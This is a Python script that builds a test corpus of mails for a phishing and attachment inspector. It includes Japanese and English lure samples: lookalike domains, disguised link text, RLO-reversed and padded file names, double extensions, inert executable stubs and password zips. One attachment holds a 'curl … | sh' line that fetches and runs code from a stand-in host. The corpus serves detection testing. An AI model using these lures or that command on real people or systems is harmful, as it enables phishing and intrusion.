"""Build the mail test corpus: each of issue 5's indicators firing alone and in combination,
Japanese mails in ISO-2022-JP and UTF-8, RFC 2231 / RFC 2047 encoded file names, and clean
mails. Everything is generated here (no pasted blobs); the bytes are deterministic except the
DKIM key, which is made fresh per build and published through ``Corpus.dns``.

    python tests/mailcorpus/build.py OUTDIR     # writes OUTDIR/<name>.eml and OUTDIR/index.json

Addresses use the example policy (policies/mail.yaml): organization city.kanmon.example.jp,
partner kanmon-trading.example.co.jp, trusted authserv-id mx.city.kanmon.example.jp.
"""

from __future__ import annotations

import base64
import email.policy
import io
import json
import struct
import sys
import zipfile
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path

ORG = "city.kanmon.example.jp"
PARTNER = "kanmon-trading.example.co.jp"
TRUSTED_AUTHSERV = "mx.city.kanmon.example.jp"
DKIM_SELECTOR = "corpus"
# Our own test "virus": clamd gets a signature for it (tests/unit/test_mail_clamd.py), the
# unit tests use a fake scanner that looks for it. Deliberately not EICAR.
TEST_VIRUS_MARKER = b"KANMON-CORPUS-TEST-MALWARE-7f3a9c2e-DO-NOT-DELIVER"

PE_STUB = b"MZ" + b"\x90\x00" * 29 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 64
ELF_STUB = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
LNK_STUB = bytes.fromhex("4c000000" "0114020000000000c000000000000046") + b"\x00" * 56
PDF_STUB = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
DOCX_STUB = b"PK\x03\x04"  # replaced by a real zip below when needed
PNG_STUB = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32

_SMTP = email.policy.SMTP  # CRLF, as on the wire
_FILE = email.policy.default  # LF, as saved by many clients


@dataclass(frozen=True)
class CorpusMail:
    name: str
    raw: bytes
    expect: frozenset[str]          # indicator names that must fire (exactly these)
    description: str
    needs_dns: bool = False         # expectation holds only with Corpus.dns passed as dns_txt
    needs_scanner: bool = False     # expectation holds only with a scanner that knows the marker


@dataclass
class Corpus:
    mails: list[CorpusMail]
    dns: dict[str, bytes] = field(default_factory=dict)

    def dns_txt(self, name: str) -> bytes | None:
        return self.dns.get(name.rstrip(".").lower())

    def by_name(self, name: str) -> CorpusMail:
        return next(m for m in self.mails if m.name == name)


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 4, 1, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


def _encrypt_flag(zip_bytes: bytes) -> bytes:
    """Mark every entry as encrypted (general purpose bit 0), as a password zip has it.
    zipfile cannot write encrypted archives; the inspector never decrypts, so the flag in the
    local and central headers is what matters."""
    data = bytearray(zip_bytes)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        while pos != -1:
            (flags,) = struct.unpack_from("<H", data, pos + offset)
            struct.pack_into("<H", data, pos + offset, flags | 0x1)
            pos = data.find(sig, pos + 4)
    return bytes(data)


def _mail(name: str, *, frm: str, subject: str, body: str, to: str = f"taro@{ORG}",
          html: str | None = None, charset: str = "utf-8",
          attachments: tuple[tuple[str, str, bytes], ...] = (), headers: tuple[tuple[str, str], ...] = (),
          policy=_SMTP) -> bytes:
    msg = EmailMessage(policy=policy)
    msg["From"] = frm
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = "Mon, 01 Apr 2024 09:00:00 +0900"
    msg["Message-ID"] = f"<{name}@corpus.kanmon.example>"
    for key, value in headers:
        msg[key] = value
    msg.set_content(body, charset=charset)
    if html is not None:
        msg.add_alternative(html, subtype="html", charset=charset)
    for filename, ctype, data in attachments:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    for i, part in enumerate(msg.walk()):
        if part.is_multipart():
            part.set_boundary(f"=_kanmon_{name}_{i}")
    return msg.as_bytes()


def _raw_attachment_mail(name: str, disposition_params: str, data: bytes, ctype: str = "application/octet-stream") -> bytes:
    """A mail whose attachment header is written by hand, for encodings the email package
    would not produce itself (RFC 2047 inside a parameter, as many Japanese mailers do)."""
    b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
    text = (
        f"From: 営業部 <eigyo@{PARTNER}>\r\nTo: taro@{ORG}\r\nSubject: =?UTF-8?B?6LOH5paZ44Gu6YCB5LuY?=\r\n"
        f"Date: Mon, 01 Apr 2024 09:00:00 +0900\r\nMessage-ID: <{name}@corpus.kanmon.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=_b\"\r\n\r\n"
        "--=_b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        "資料をお送りします。\r\n\r\n--=_b\r\n"
        f"Content-Type: {ctype}\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Disposition: attachment; {disposition_params}\r\n\r\n{b64}\r\n--=_b--\r\n"
    )
    return text.encode("utf-8")


def _dkim_key() -> tuple[bytes, bytes]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL,
                                serialization.NoEncryption())
    public = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    return private, b"v=DKIM1; k=rsa; p=" + base64.b64encode(public)


def _sign(raw: bytes, private: bytes, domain: str) -> bytes:
    import dkim

    sig = dkim.sign(raw, DKIM_SELECTOR.encode(), domain.encode(), private,
                    include_headers=[b"from", b"to", b"subject", b"date", b"message-id"])
    return sig + raw


def build_corpus() -> Corpus:
    mails: list[CorpusMail] = []

    def add(name: str, raw: bytes, expect: set[str], description: str, **kw: bool) -> None:
        mails.append(CorpusMail(name, raw, frozenset(expect), description, **kw))

    partner_sig_ja = f"\n\n--\n関門商事株式会社 営業部\n山田 花子\nE-mail: hanako@{PARTNER}\nTEL: 03-6800-1234\n"
    # ---- clean mails (must be delivered byte-identical) -------------------------------------
    add("clean-ascii", _mail("clean-ascii", frm=f"Jiro Suzuki <jiro@{ORG}>", subject="Meeting notes",
                             body="Hello,\n\nThe notes are below.\n\nJiro\n"), set(), "plain ASCII internal mail")
    add("clean-iso2022jp", _mail("clean-iso2022jp", frm=f"山田 花子 <hanako@{PARTNER}>", subject="お見積りの件",
                                 body="いつもお世話になっております。\n見積書を別途お送りします。" + partner_sig_ja,
                                 charset="iso-2022-jp"), set(), "Japanese ISO-2022-JP mail with matching signature")
    add("clean-utf8-html", _mail(
        "clean-utf8-html", frm=f"広報課 <koho@{ORG}>", subject="市報のお知らせ",
        body=f"市報を掲載しました: https://{ORG}/koho/\n",
        html=f'<p>市報を掲載しました: <a href="https://{ORG}/koho/">https://{ORG}/koho/</a></p>'
             '<p><a href="https://www.example.org/map">地図はこちら</a></p>'),
        set(), "UTF-8 Japanese HTML mail whose links show their real host")
    add("clean-rfc2231-pdf", _mail("clean-rfc2231-pdf", frm=f"山田 花子 <hanako@{PARTNER}>", subject="見積書送付",
                                   body="見積書を添付します。" + partner_sig_ja,
                                   attachments=(("御見積書 2024年4月.pdf", "application/pdf", PDF_STUB),)),
        {"attachment-present"}, "RFC 2231 encoded Japanese file name, real PDF content")
    add("clean-zip", _mail("clean-zip", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料一式",
                           body="資料一式を zip でお送りします。" + partner_sig_ja,
                           attachments=(("資料.zip", "application/zip",
                                         _zip([("見積書.pdf", PDF_STUB), ("画像/図1.png", PNG_STUB)])),)),
        {"attachment-present"}, "zip with harmless documents")
    add("clean-lf", _mail("clean-lf", frm=f"Jiro Suzuki <jiro@{ORG}>", subject="LF line endings",
                          body="Saved by a client with LF line endings.\n", policy=_FILE),
        set(), "LF line endings")
    add("clean-untrusted-authres", _mail(
        "clean-untrusted-authres", frm=f"山田 花子 <hanako@{PARTNER}>", subject="ご連絡",
        body="ご連絡です。" + partner_sig_ja,
        headers=(("Authentication-Results", "mx.attacker.example; spf=fail smtp.mailfrom=x; dmarc=fail header.from=x"),)),
        set(), "Authentication-Results from an untrusted authserv-id is ignored")

    # ---- each indicator alone ---------------------------------------------------------------
    add("freemail-sender", _mail("freemail-sender", frm="Taro Yamada <taro.yamada@gmail.com>", subject="Hello",
                                 body="Hi, it's Taro.\n"), {"freemail-sender"}, "sender on gmail.com")
    add("freemail-carrier", _mail("freemail-carrier", frm="はなこ <hanako-0401@docomo.ne.jp>", subject="連絡",
                                  body="携帯から送ります。\n", charset="iso-2022-jp"),
        {"freemail-sender"}, "Japanese carrier address, ISO-2022-JP")
    add("sender-mismatch-replyto", _mail(
        "sender-mismatch-replyto", frm=f"山田 花子 <hanako@{PARTNER}>", subject="請求書の件",
        body="振込先が変わりました。" + partner_sig_ja, headers=(("Reply-To", "hanako@billing-desk.example.net"),)),
        {"sender-mismatch"}, "Reply-To in another domain")
    add("sender-mismatch-signature", _mail(
        "sender-mismatch-signature", frm=f"山田 花子 <hanako@{PARTNER}>", subject="お振込先変更のお知らせ",
        body="いつもお世話になっております。\n\n--\n関門商事株式会社 経理部\nE-mail: keiri@payments-desk.example.net\n",
        charset="iso-2022-jp"), {"sender-mismatch", "theme-credential-request"},
        "signature shows another address (ISO-2022-JP); the subject announces new bank details")
    add("display-name-impersonation", _mail(
        "display-name-impersonation", frm="関門市役所 総務課 <soumu@office-mail.example.net>", subject="職員各位",
        body="添付の内容をご確認ください。\n"), {"display-name-impersonation", "theme-organization-notice"},
        "display name claims the organization, addressed to all staff (職員各位)")
    add("link-text-mismatch", _mail(
        "link-text-mismatch", frm=f"山田 花子 <hanako@{PARTNER}>", subject="ログインのお願い",
        body="ログインしてください。" + partner_sig_ja,
        html=f'<p><a href="https://login.phish.example.net/a">https://www.bank.example.com/login</a></p>'
             f'<p>--<br>E-mail: hanako@{PARTNER}</p>'),
        {"link-text-mismatch", "theme-credential-request"}, "anchor text names another host than its href; asks to log in")
    confusable_host = f"city.kanmοn.example.jp".encode("idna").decode()  # Greek omicron
    add("lookalike-punycode-url", _mail(
        "lookalike-punycode-url", frm=f"山田 花子 <hanako@{PARTNER}>", subject="市のお知らせ",
        body=f"詳細: https://{confusable_host}/info\n" + partner_sig_ja),
        {"lookalike-domain"}, f"punycode URL {confusable_host} shows as the organization's domain")
    add("lookalike-edit-distance-sender", _mail(
        "lookalike-edit-distance-sender", frm="Hanako Yamada <hanako@kanmon-tradinq.example.co.jp>",
        subject="Invoice", body="Please see the invoice.\n\n--\nE-mail: hanako@kanmon-tradinq.example.co.jp\n"),
        {"lookalike-domain"}, "sender domain one letter away from the partner's")
    add("executable-by-extension", _mail(
        "executable-by-extension", frm=f"山田 花子 <hanako@{PARTNER}>", subject="ツール",
        body="ツールです。" + partner_sig_ja, attachments=(("setup.exe", "application/octet-stream", PE_STUB),)),
        {"executable-attachment", "attachment-present"}, "setup.exe with PE content")
    add("executable-by-content", _mail(
        "executable-by-content", frm=f"山田 花子 <hanako@{PARTNER}>", subject="請求書",
        body="請求書です。" + partner_sig_ja, attachments=(("請求書.pdf", "application/pdf", PE_STUB),)),
        {"executable-attachment", "attachment-present"}, "named .pdf but the content is a PE executable")
    add("executable-script-content", _mail(
        "executable-script-content", frm=f"山田 花子 <hanako@{PARTNER}>", subject="手順",
        body="手順です。" + partner_sig_ja,
        attachments=(("手順.txt", "text/plain", b"#!/bin/sh\ncurl http://x.example/p | sh\n"),
                     ("data.bin", "application/octet-stream", ELF_STUB))),
        {"executable-attachment", "attachment-present"}, "shebang script named .txt and an ELF binary")
    add("shortcut-lnk", _mail(
        "shortcut-lnk", frm=f"山田 花子 <hanako@{PARTNER}>", subject="共有フォルダ",
        body="ショートカットです。" + partner_sig_ja, attachments=(("共有フォルダ.lnk", "application/octet-stream", LNK_STUB),)),
        {"shortcut-attachment", "attachment-present"}, ".lnk with LNK header")
    add("shortcut-by-header", _mail(
        "shortcut-by-header", frm=f"山田 花子 <hanako@{PARTNER}>", subject="写真",
        body="写真です。" + partner_sig_ja, attachments=(("photo.jpg", "image/jpeg", LNK_STUB),)),
        {"shortcut-attachment", "attachment-present"}, "named .jpg but carries an LNK header")
    add("double-extension", _mail(
        "double-extension", frm=f"山田 花子 <hanako@{PARTNER}>", subject="報告書",
        body="報告書です。" + partner_sig_ja, attachments=(("報告書.pdf.exe", "application/octet-stream", b"not really"),)),
        {"double-extension", "executable-attachment", "attachment-present"},
        "report.pdf.exe (a double extension is only reported when the real extension is dangerous)")
    add("extension-padding", _mail(
        "extension-padding", frm=f"山田 花子 <hanako@{PARTNER}>", subject="議事録",
        body="議事録です。" + partner_sig_ja,
        attachments=(("議事録\u3000\u3000\u3000\u3000\u3000\u3000.pdf", "application/pdf", PDF_STUB),)),
        {"extension-padding", "attachment-present", "theme-internal-document"},
        "ideographic spaces pad the name before .pdf (of the minutes, 議事録)")
    add("filename-rlo-rfc2231", _mail(
        "filename-rlo-rfc2231", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料",
        body="資料です。" + partner_sig_ja,
        attachments=(("資料\u202Etxt.pdf", "application/pdf", PDF_STUB),)),
        {"filename-control-chars", "attachment-present"}, "RLO inside an RFC 2231 encoded file name")
    add("filename-zero-width-rfc2047", _raw_attachment_mail(
        "filename-zero-width-rfc2047",
        'filename="=?UTF-8?B?' + base64.b64encode("見積\u200B書.pdf".encode()).decode() + '?="', PDF_STUB,
        ctype="application/pdf"), {"filename-control-chars", "attachment-present"}, "zero-width space in an RFC 2047 encoded name")
    add("archive-with-exe", _mail(
        "archive-with-exe", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料",
        body="資料です。" + partner_sig_ja,
        attachments=(("資料.zip", "application/zip", _zip([("readme.txt", b"hello"), ("資料.scr", PE_STUB)])),)),
        {"archive-threat", "attachment-present"}, "zip containing an .scr executable")
    add("archive-nested-lnk", _mail(
        "archive-nested-lnk", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料",
        body="資料です。" + partner_sig_ja,
        attachments=(("outer.zip", "application/zip",
                      _zip([("inner.zip", _zip([("folder.pdf", LNK_STUB)]))])),)),
        {"archive-threat", "attachment-present"}, "zip in zip, LNK disguised as .pdf inside")
    add("archive-encrypted", _mail(
        "archive-encrypted", frm=f"山田 花子 <hanako@{PARTNER}>", subject="【パスワード別送】資料",
        body="パスワードは別途お送りします。" + partner_sig_ja,
        attachments=(("資料.zip", "application/zip", _encrypt_flag(_zip([("資料.docx", b"secret")]))),)),
        {"archive-encrypted", "attachment-present"}, "password zip (encrypted entries)")
    add("auth-dmarc-fail", _mail(
        "auth-dmarc-fail", frm=f"山田 花子 <hanako@{PARTNER}>", subject="ご連絡", body="ご連絡です。" + partner_sig_ja,
        headers=(("Authentication-Results",
                  f"{TRUSTED_AUTHSERV}; spf=pass smtp.mailfrom={PARTNER}; dkim=none; dmarc=fail header.from={PARTNER}"),)),
        {"sender-auth-failure"}, "trusted Authentication-Results: dmarc=fail")
    add("virus", _mail(
        "virus", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料", body="資料です。" + partner_sig_ja,
        attachments=(("資料.dat", "application/octet-stream", b"header " + TEST_VIRUS_MARKER + b" trailer"),)),
        {"virus-detected", "attachment-present"}, "attachment carrying the test malware marker", needs_scanner=True)

    # ---- DKIM (needs the corpus DNS) --------------------------------------------------------
    private, record = _dkim_key()
    dns = {f"{DKIM_SELECTOR}._domainkey.{PARTNER}": record}
    signed = _sign(_mail("dkim-valid", frm=f"山田 花子 <hanako@{PARTNER}>", subject="署名付き",
                         body="DKIM 署名付きのメールです。" + partner_sig_ja), private, PARTNER)
    add("clean-dkim-valid", signed, set(), "valid DKIM signature", needs_dns=True)
    tampered = _sign(_mail("dkim-tampered", frm=f"山田 花子 <hanako@{PARTNER}>", subject="署名付き",
                           body="振込先: 口座 1234567" + partner_sig_ja), private, PARTNER)
    tampered = tampered.replace("1234567".encode(), "7654321".encode())
    add("dkim-body-tampered", tampered, {"sender-auth-failure"}, "DKIM-signed body altered in transit", needs_dns=True)

    # ---- combinations -----------------------------------------------------------------------
    add("combo-freemail-impersonation-exe", _mail(
        "combo-freemail-impersonation-exe", frm="関門市役所 人事課 <kanmon.jinji@yahoo.co.jp>", subject="人事異動のお知らせ",
        body="人事異動の資料を添付します。\n", charset="iso-2022-jp",
        attachments=(("人事異動.pdf.exe", "application/octet-stream", PE_STUB),)),
        {"freemail-sender", "display-name-impersonation", "double-extension", "executable-attachment",
         "attachment-present", "theme-organization-notice"},
        "ISO-2022-JP: free-mail sender posing as the city with a report.pdf.exe")
    add("combo-phish-link-lookalike", _mail(
        "combo-phish-link-lookalike", frm="Kanmon Trading <support@kanmon-trading-support.example.net>",
        subject="Mailbox quota exceeded", body="Your mailbox is full.\n",
        html=f'<p>Log in at <a href="https://{confusable_host}/login">https://{ORG}/login</a></p>',
        headers=(("Reply-To", "helpdesk@quota-check.example.org"),
                 ("Authentication-Results", f"{TRUSTED_AUTHSERV}; spf=softfail smtp.mailfrom=x.example.net; dmarc=none"))),
        {"display-name-impersonation", "sender-mismatch", "link-text-mismatch", "lookalike-domain", "sender-auth-failure",
         "theme-credential-request"},
        "English phish: partner name, lookalike link, Reply-To elsewhere, SPF softfail")
    add("combo-rlo-exe-in-zip-encrypted", _mail(
        "combo-rlo-exe-in-zip-encrypted", frm="採用担当 <recruit2024@outlook.jp>", subject="履歴書の送付",
        body="履歴書をお送りします。\n",
        attachments=(("履歴書\u202Excod.scr", "application/octet-stream", PE_STUB),
                     ("職務経歴書.zip", "application/zip",
                      _zip([("職務経歴書          .exe", PE_STUB)])),
                     ("パスワード付き.zip", "application/zip", _encrypt_flag(_zip([("a.doc", b"x")]))))),
        {"freemail-sender", "filename-control-chars", "executable-attachment", "archive-threat", "archive-encrypted",
         "attachment-present", "theme-request"},
        "résumé lure: RLO .scr, padded exe inside a zip, and a password zip")
    add("combo-padding-double-virus", _mail(
        "combo-padding-double-virus", frm=f"山田 花子 <hanako@{PARTNER}>", subject="請求書",
        body="請求書です。" + partner_sig_ja,
        attachments=(("請求書.pdf                    .exe", "application/octet-stream", PE_STUB + TEST_VIRUS_MARKER),
                     ("請求書フォルダ.lnk", "application/octet-stream", LNK_STUB))),
        {"extension-padding", "double-extension", "executable-attachment", "virus-detected", "shortcut-attachment",
         "attachment-present"},
        "padded double extension carrying the test marker, and a shortcut", needs_scanner=True)
    return Corpus(mails, dns)


def write_corpus(outdir: Path) -> Corpus:
    corpus = build_corpus()
    outdir.mkdir(parents=True, exist_ok=True)
    index = []
    for mail in corpus.mails:
        (outdir / f"{mail.name}.eml").write_bytes(mail.raw)
        index.append({"name": mail.name, "expect": sorted(mail.expect), "description": mail.description,
                      "needs_dns": mail.needs_dns, "needs_scanner": mail.needs_scanner})
    (outdir / "index.json").write_text(json.dumps({"mails": index, "dns": {k: v.decode() for k, v in corpus.dns.items()}},
                                                  ensure_ascii=False, indent=2), encoding="utf-8")
    return corpus


if __name__ == "__main__":
    if len(sys.argv) != 2:
        print("usage: build.py OUTDIR", file=sys.stderr)
        sys.exit(2)
    built = write_corpus(Path(sys.argv[1]))
    print(f"{len(built.mails)} mails written to {sys.argv[1]}")
